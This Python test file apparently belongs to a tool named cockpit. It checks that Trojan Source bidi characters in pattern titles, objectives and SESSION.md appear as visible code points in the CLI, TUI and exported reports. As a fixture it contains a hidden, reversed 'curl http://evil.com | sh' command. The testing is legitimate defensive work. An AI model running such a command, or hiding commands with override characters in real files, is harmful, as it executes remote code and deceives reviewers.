"""What is shown is what is there (Trojan Source): a cloned workspace's pattern titled
`run <U+202E>hs | moc.live//:ptth lruc<U+202C>` would read `run curl http://evil.com | sh` on a
screen that obeys the right-to-left override. Every surface (pattern list and show, the TUI's
pattern browser and gate detail, history on the command line and its screen, REPORT.md,
report.html, report.json and PR.md) shows the override as its code point instead, so the words
read in the order they are stored."""

from __future__ import annotations

import html
import json
from pathlib import Path

import pytest

from cockpit.cli import main
from cockpit.config import Config
from cockpit.session import events as ev
from cockpit.session.journal import JournalWriter
from cockpit.session.workspace import SessionRef, Workspace, create_session
from cockpit.ui.app import CockpitApp
from cockpit.ui.screens.patterns import PatternBrowser

from .conftest import T0
from .test_hostile_display import app_on, history_screenshot

TITLE = "run \u202ehs | moc.live//:ptth lruc\u202c"
"""The issue's title: a right-to-left override, the command written backwards, a pop."""
SHOWN = "run <U+202E>hs | moc.live//:ptth lruc<U+202C>"
OBJECTIVE = "speed up \u2066attention\u2069 x\u200by"
OBJECTIVE_SHOWN = "speed up <U+2066>attention<U+2069> x<U+200B>y"
HIDDEN = ("\u202e", "\u202c", "\u2066", "\u2069", "\u200b")


def assert_shown_as_stored(shown: str, *expected: str) -> None:
    hidden = [c for c in HIDDEN if c in shown]
    assert not hidden, [f"U+{ord(c):04X}" for c in hidden]
    for text in expected:
        assert text in shown, text


def trojan_workspace(ws: Workspace) -> SessionRef:
    """A session as someone else committed it, with a pattern whose title hides its command: it
    fires on the session's failed env run, and the session marked it applied."""
    ws.patterns_dir.mkdir(exist_ok=True)
    (ws.patterns_dir / "71-trojan.md").write_text(
        f"---\nid: 71\ntitle: \"{TITLE}\"\nstatus: operational\ntime_saved_min: 5\nproblem: p\n"
        "when: w\nsolution: s\ntriggers:\n  - {when: 'status == fail', gate: env}\n---\nbody\n")
    ref = create_session(ws, Config(), OBJECTIVE, "optimize", T0)
    journal = JournalWriter(ref.journal)
    journal.append(ev.gate_started(T0 + 3, "env-1", "env", ("python",), "logs/env-1.log", 1))
    journal.append(ev.gate_finished(T0 + 4, "env-1", "env", "fail", "no torch", 1.0, 1, "logs/env-1.log", {}))
    journal.append(ev.pattern_applied(T0 + 5, 71, TITLE, f"because {TITLE}"))
    journal.close()
    return ref


def screen_text(app: CockpitApp) -> str:
    return html.unescape(app.export_screenshot()).replace("\xa0", " ")


def test_the_door_shows_the_override_as_its_code_point() -> None:
    from cockpit.printable import printable

    assert printable(TITLE) == SHOWN
    assert printable(TITLE, mark="\ufffd") == SHOWN  # a report's door too


# The command line -----------------------------------------------------------------------------

def test_pattern_list_and_show_print_the_override_as_its_code_point(
        ws: Workspace, capsys: pytest.CaptureFixture[str]) -> None:
    trojan_workspace(ws)
    assert main(["--workspace", str(ws.root), "pattern", "list"]) == 0
    assert_shown_as_stored(capsys.readouterr().out, SHOWN)
    assert main(["--workspace", str(ws.root), "pattern", "show", "71"]) == 0
    assert_shown_as_stored(capsys.readouterr().out, f"71 · {SHOWN}")
    # --json keeps the title as written, as JSON's own escape: no terminal acts on \u202e
    assert main(["--workspace", str(ws.root), "pattern", "show", "71", "--json"]) == 0
    out = capsys.readouterr().out
    assert_shown_as_stored(out)
    assert json.loads(out)["title"] == TITLE


def test_history_prints_an_objective_s_override_as_its_code_point(
        ws: Workspace, capsys: pytest.CaptureFixture[str]) -> None:
    trojan_workspace(ws)
    assert main(["--workspace", str(ws.root), "history", "--wide"]) == 0
    assert_shown_as_stored(capsys.readouterr().out, OBJECTIVE_SHOWN)
    assert main(["--workspace", str(ws.root), "history", "--json"]) == 0
    out = capsys.readouterr().out
    assert_shown_as_stored(out)
    assert json.loads(out)["sessions"][0]["objective"] == OBJECTIVE_SHOWN


# The reports ----------------------------------------------------------------------------------

@pytest.mark.parametrize("fmt", ["md", "html", "json", "pr"])
def test_every_report_shows_the_override_as_its_code_point(
        ws: Workspace, fmt: str, capsys: pytest.CaptureFixture[str]) -> None:
    """REPORT.md, report.html and PR.md show what the journal holds; report.json holds the same
    words as they do (the report's text passes the door once, when it is built, for every format;
    report.html's Jinja escapes it again as HTML)."""
    trojan_workspace(ws)
    out = ws.root / f"report.{fmt}"
    assert main(["--workspace", str(ws.root), "export", "--format", fmt, "-o", str(out)]) == 0
    capsys.readouterr()
    text = out.read_text(encoding="utf-8")
    if fmt == "html":
        assert "&lt;U+202E&gt;" in text  # Jinja's autoescape, on top of the door
        text = html.unescape(text)
    elif fmt == "json":
        text = json.dumps(json.loads(text), ensure_ascii=False)
    else:
        text = text.replace("\\", "")  # Markdown's escapes of <, > and |
    assert_shown_as_stored(text, OBJECTIVE_SHOWN)
    if fmt != "pr":  # PR.md names no pattern
        assert SHOWN in text


# The TUI ---------------------------------------------------------------------------------------

async def test_the_pattern_browser_and_the_gate_detail_show_the_override_as_its_code_point(
        ws: Workspace) -> None:
    ref = trojan_workspace(ws)
    app = app_on(ws, ref)
    async with app.run_test(size=(200, 50), notifications=True) as pilot:
        await pilot.pause()
        main_screen = screen_text(app)
        app.open_patterns(71)
        for _ in range(300):
            await pilot.pause()
            if isinstance(app.screen, PatternBrowser):
                break
        browser = screen_text(app)
    assert_shown_as_stored(main_screen, f"⚑ pattern 71 {SHOWN}", OBJECTIVE_SHOWN)
    assert_shown_as_stored(browser, f"71 · {SHOWN}")


async def test_the_history_screen_shows_an_objective_s_override_as_its_code_point(ws: Workspace) -> None:
    shown = html.unescape(await history_screenshot(ws, trojan_workspace(ws))).replace("\xa0", " ")
    assert_shown_as_stored(shown, OBJECTIVE_SHOWN)


def test_a_pattern_file_with_the_override_is_kept_as_written(ws: Workspace) -> None:
    """Showing is not rewriting: the file in the workspace keeps its bytes."""
    trojan_workspace(ws)
    assert TITLE in Path(ws.patterns_dir / "71-trojan.md").read_text(encoding="utf-8")


async def test_a_session_md_with_a_hidden_character_shows_it_and_is_never_rewritten(ws, session, clock) -> None:
    """The editor shows SESSION.md through the door, <U+202E> spelled out; saved from there the file
    would hold the spelling, not the character: it opens read-only, and the file stays as written."""
    from cockpit.config import Config
    from cockpit.ui.app import CockpitApp

    written = session.log_md.read_text(encoding="utf-8") + "run \u202ehs | moc.live//:ptth lruc\u202c\n"
    session.log_md.write_text(written, encoding="utf-8")
    app = CockpitApp(ws, Config(status_every_s=10**6), session, clock=clock, tick_s=3600, gpu_every_s=0,
                     typing_gap_s=0)
    async with app.run_test(size=(120, 40)) as pilot:
        await pilot.pause()
        assert "run <U+202E>hs | moc.live//:ptth lruc<U+202C>" in app.editor.area.text
        assert app.editor.area.read_only and "hidden characters" in app.editor.border_subtitle
        await pilot.press("tab", *"more")
        app.editor.flush()
    assert session.log_md.read_text(encoding="utf-8") == written
